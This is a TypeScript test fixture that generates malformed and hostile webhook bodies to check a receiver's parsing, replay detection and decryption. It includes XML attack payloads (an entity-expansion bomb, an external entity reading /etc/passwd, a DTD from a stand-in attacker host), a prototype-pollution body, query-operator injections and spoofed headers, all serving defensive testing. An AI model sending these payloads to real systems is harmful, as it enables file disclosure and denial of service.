import type { JsonObject } from "../../src/company_data/mod.ts";
import { writeXml } from "../../src/sandbox/_xml_writer.ts";
import { type Draft, type HostileWorld, MIB } from "./_hostile_delivery.ts";

const DEAD = { parse: "WebhookError" } as const;

/** Bodies that a genuine sender may be made to send. All of them are stored; some turn out to hold no change. */
export async function oddBodies(world: HostileWorld): Promise<Draft[]> {
  return [
    ...await changes(world),
    ...await xmlChanges(world),
    ...await replays(world),
    ...oddJson(),
    ...garbage(),
    ...await brokenXml(),
    ...await envelopes(world),
    ...await badValues(world),
    ...sizes(),
  ];
}

let serial = 0;

function row(members: JsonObject = {}): JsonObject {
  serial++;
  const whole = {
    id: `d-${serial}`,
    event: "connection_created",
    person_user_id: `p-${serial}`,
    at: "2026-06-17T12:00:00Z",
    ...members,
  };
  const present = Object.entries(whole).filter(([, m]) => m !== undefined);
  return Object.fromEntries(present);
}

function json(name: string, raw: JsonObject, more: Partial<Draft> = {}): Draft {
  return { name, body: JSON.stringify(raw), raw, ...more };
}

async function changes(world: HostileWorld): Promise<Draft[]> {
  const value = await world.value("anna@example.com");
  const rows: JsonObject[] = [
    { event: "connection_created" },
    { event: "connection_deleted" },
    { event: "field_updated", slug: "email", live: true, value },
    { event: "field_updated", slug: "email", value: JSON.stringify(value) },
    { event: "field_deleted", slug: "email" },
    { event: "consent_accepted", slug: "email" },
    { event: "consent_declined", slug: "email" },
    { event: "document_status_changed", document_id: "d", status: "active" },
    { event: "connection_request_accepted", request_id: "r" },
    { event: "connection_request_rejected", request_id: "r" },
    { event: "key_rotated", public_key_sha256: "00" },
    { event: "2fa_challenge_completed", status: "approved" },
    { event: "message_received", message_id: "m", body: value },
    { event: "invented_tomorrow", what: ["ever", { is: null }] },
  ];
  return rows.map((members, i) =>
    json(`event ${i} ${members["event"]}`, row(members))
  );
}

async function xmlChanges(world: HostileWorld): Promise<Draft[]> {
  const value = await world.value("anna@example.com");
  const plain = row({ event: "field_deleted", slug: "a<b&c" });
  const typed = row({ event: "field_updated", slug: "email", value });
  const asXml = { ...typed, value: { ...value, _enc: "1" } };
  const odd = row();
  return [
    { name: "XML", body: writeXml(plain), raw: plain },
    { name: "XML with a value", body: writeXml(typed), raw: asXml },
    {
      name: "XML with declaration, comment and CDATA",
      body: `<?xml version="1.0" encoding="UTF-8"?><!-- ? -->` +
        writeXml(odd).replace(`${odd["id"]}`, `<![CDATA[${odd["id"]}]]>`),
      raw: odd,
    },
  ];
}

async function replays(world: HostileWorld): Promise<Draft[]> {
  const value = await world.value("anna@example.com");
  const first = row({
    event: "field_updated",
    slug: "email",
    live: true,
    value,
  });
  const again = { ...first, id: "d-again" };
  const turned = Object.fromEntries(Object.entries(again).reverse());
  const timeless = row({ at: undefined });
  const end = "duplicate" as const;
  return [
    json("what is replayed below", first),
    json("replay to the byte", first, { end }),
    json("replay under a new id", again, { end }),
    json("replay in another order of members", turned, { end }),
    json("replay with another event header", first, {
      end,
      headers: [["X-Allus-Event", "key_rotated"]],
    }),
    { name: "replay in XML", body: writeXml(again), end },
    {
      name: "replay in an envelope",
      body: JSON.stringify(await world.envelope(JSON.stringify(again))),
      end,
    },
    json("no replay: another time", {
      ...first,
      at: "2026-06-17T12:00:01Z",
    }),
    json("no replay: encrypted anew", {
      ...first,
      value: await world.value("anna@example.com"),
    }),
    json("without a time", timeless),
    json("without a time once more", timeless),
  ];
}

function oddJson(): Draft[] {
  const [one, two, three, four, five] = [row(), row(), row(), row(), row()];
  const bare = row({ event: undefined });
  const header = ["X-Allus-Event", "connection_deleted"] as const;
  const long = ["X-Allus-Event", "e".repeat(300)] as const;
  return [
    json("event in the header only", bare, { headers: [header] }),
    json("event in the header twice", row({ event: undefined }), {
      headers: [header, header],
    }),
    json("event header against the body", row(), { headers: [header] }),
    json("event header too long to be one", row(), { headers: [long] }),
    json(
      "event in the action",
      row({ event: undefined, action: "key_rotated" }),
    ),
    json("action of a contract is no event", {
      ...row({ event: undefined }),
      action: "signed",
    }),
    json("no members", {}),
    json("event that is no text", row({ event: { $ne: null } })),
    json("id that is a number", row({ id: 17 })),
    json("unknown members", row({ "": 0, "a b": [[]], $where: "1" })),
    json("text beyond the BMP", row({ note: "\u{1f4a7}\u0000\u2028" })),
    {
      name: "blanks around",
      body: ` \r\n\t${JSON.stringify(one)}\n\n`,
      raw: one,
    },
    {
      name: "byte order mark",
      body: `\ufeff${JSON.stringify(two)}`,
      raw: two,
    },
    {
      name: "member __proto__",
      body: JSON.stringify(three).replace("{", '{"__proto__":{"event":"x"},'),
    },
    json("members constructor and toString", {
      ...four,
      constructor: "x",
      toString: "y",
    }),
    {
      name: "duplicate keys, of which the last one counts",
      body: JSON.stringify(five).replace("{", '{"event":"field_updated",'),
      raw: five,
    },
    json("lone surrogate in an escape", row({ note: "\ud800" })),
    json("content type of a form", row(), {
      headers: [["Content-Type", "application/x-www-form-urlencoded"]],
    }),
    json("content type of XML", row(), {
      headers: [["Content-Type", "application/xml; charset=utf-16"]],
    }),
    json("no reason to be chunked", row(), {
      headers: [["X-Forwarded-For", "127.0.0.1"], ["X-HTTP-Method", "DELETE"]],
    }),
    json("_enc as a text is no envelope", row({ _enc: "1", k: "", iv: "" })),
  ];
}

function garbage(): Draft[] {
  const body = JSON.stringify(row());
  const utf16 = new Uint8Array(
    new Uint16Array(
      Array.from(body, (char) => char.charCodeAt(0)),
    ).buffer,
  );
  const bodies: [string, string | Uint8Array<ArrayBuffer>][] = [
    ["nothing", ""],
    ["blanks only", " \n\t "],
    ["null", "null"],
    ["true", "true"],
    ["a number", "17"],
    ["a text", '"{}"'],
    ["an array", "[]"],
    ["an array with a row", `[${body}]`],
    ["an opening brace", "{"],
    ["JSON cut off", body.slice(0, -1)],
    ["JSON and more", `${body}{}`],
    ["two lines of JSON", `${body}\n${body}`],
    ["single quotes", body.replaceAll('"', "'")],
    ["a comment", body.replace("{", "{/* */")],
    ["a trailing comma", body.replace(/}$/, ",}")],
    ["NaN", '{"event":NaN}'],
    ["a raw control character", '{"event":"\u0001"}'],
    ["JSONP", `callback(${body})`],
    ["a form", "event=connection_created&id=1"],
    ["HTML", "<!doctype html><title>Gateway</title>"],
    ["lists without end", `{"a":${"[".repeat(100_000)}`],
    ["deep lists", `{"a":${"[".repeat(20_000)}${"]".repeat(20_000)}}`],
    ["deep objects", `${'{"a":'.repeat(20_000)}1${"}".repeat(20_000)}`],
    ["invalid UTF-8", Uint8Array.of(0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d)],
    ["UTF-16", utf16],
    ["zeros", new Uint8Array(64)],
    ["a PNG", Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)],
  ];
  return bodies.map(([name, body]) => ({ name, body, ...DEAD }));
}

async function brokenXml(): Promise<Draft[]> {
  const rowXml = writeXml(row());
  const laughs = Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
  ).join("");
  const bodies: [string, string | Uint8Array<ArrayBuffer>][] = [
    [
      "a bomb of entities",
      `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs}]><response><event>&l9;</event></response>`,
    ],
    [
      "an external entity",
      '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><response><event>&x;</event></response>',
    ],
    [
      "an external DTD",
      '<!DOCTYPE response SYSTEM "http://attacker.test/x.dtd"><response/>',
    ],
    ["a processing instruction", rowXml.replace("<id>", "<?php 1 ?><id>")],
    ["an unknown entity", rowXml.replace("<id>", "<id>&nbsp;")],
    ["a reference to no character", rowXml.replace("<id>", "<id>&#0;")],
    ["another encoding", `<?xml version="1.0" encoding="UTF-16"?>${rowXml}`],
    ["a tag that is not closed", rowXml.replace("</id>", "")],
    ["tags that do not match", rowXml.replace("</id>", "</di>")],
    ["two roots", rowXml + rowXml],
    ["text after the root", `${rowXml}x`],
    ["another root", rowXml.replaceAll("response>", "envelope>")],
    ["XML cut off", rowXml.slice(0, -3)],
    ["an empty root", "<response/>"],
    ["a root with text", "<response>text</response>"],
    ["a root with a list", "<response><item>1</item></response>"],
    [
      "deep XML",
      `<response>${"<a>".repeat(20_000)}${"</a>".repeat(20_000)}</response>`,
    ],
    ["an opening bracket", "<"],
  ];
  return [
    ...bodies.map(([name, body]) => ({ name, body, ...DEAD })),
    {
      name: "compressed, and the signature is over that",
      body: await gzip(JSON.stringify(row())),
      headers: [["Content-Encoding", "gzip"]],
      ...DEAD,
    },
  ];
}

async function envelopes(world: HostileWorld): Promise<Draft[]> {
  const [first, second] = [row(), row()];
  const whole = await world.envelope(JSON.stringify(first));
  const { k, iv, d } = whole;
  const inner = await world.envelope(JSON.stringify(row()));
  const closed = (name: string, body: unknown): Draft => ({
    name: `envelope ${name}`,
    body: JSON.stringify(body),
    ...DEAD,
  });
  return [
    { name: "envelope", body: JSON.stringify(whole), raw: first },
    {
      name: "envelope around XML",
      body: JSON.stringify(await world.envelope(writeXml(second))),
      raw: second,
    },
    {
      name: "envelope cut off",
      body: JSON.stringify(whole).slice(0, -20),
      ...DEAD,
    },
    closed("without k", { _enc: 1, iv, d }),
    closed("without iv", { _enc: 1, k, d }),
    closed("without d", { _enc: 1, k, iv }),
    closed("with the mark only", { _enc: 1 }),
    closed("with numbers", { _enc: 1, k: 1, iv: 2, d: 3 }),
    closed("with k that is no base64", { ...whole, k: `${k}!` }),
    closed("with a changed k", {
      ...whole,
      k: k.replace(/^./, "$&A").slice(0, k.length),
    }),
    closed("with a short iv", { ...whole, iv: "AAAA" }),
    closed("with d cut off", { ...whole, d: d.slice(0, -8) }),
    closed("with an empty d", { ...whole, d: "" }),
    closed("with the iv of another", { ...whole, iv: inner.iv }),
    closed("with the d of another", { ...whole, d: inner.d }),
    closed("made with SHA-256", await world.wrongHash(JSON.stringify(row()))),
    closed("for the service", await world.value(JSON.stringify(row()))),
    closed("around a text", await world.envelope("hello")),
    closed("around nothing", await world.envelope("")),
    closed("around a list", await world.envelope("[]")),
    closed("around broken JSON", await world.envelope('{"event":')),
    closed("around an envelope", await world.envelope(JSON.stringify(inner))),
    closed(
      "around a bomb",
      await world.envelope('<!DOCTYPE a [<!ENTITY b "c">]><response/>'),
    ),
  ];
}

async function badValues(world: HostileWorld): Promise<Draft[]> {
  const value = await world.value("anna@example.com");
  const { k: _, ...keyless } = value;
  const values: [string, unknown][] = [
    ["without k", keyless],
    ["with another d", { ...value, d: (await world.value("x")).d }],
    ["for another key", await world.envelope("anna@example.com")],
    ["that is plain text", "anna@example.com"],
  ];
  return values.map(([name, value]) =>
    json(
      `value ${name}`,
      row({ event: "field_updated", slug: "email", value }),
      { parse: "undecryptable" },
    )
  );
}

function sizes(): Draft[] {
  const padded = (length: number): Draft => {
    const raw = row({ note: "" });
    const missing = length - JSON.stringify(raw).length;
    const full = { ...raw, note: "n".repeat(missing) };
    return json(`${length} bytes`, full);
  };
  return [padded(MIB), padded(MIB + 1), padded(3 * MIB)];
}

async function gzip(text: string): Promise<Uint8Array<ArrayBuffer>> {
  const zipped = new Blob([text]).stream().pipeThrough(
    new CompressionStream("gzip"),
  );
  return new Uint8Array(await new Response(zipped).arrayBuffer());
}
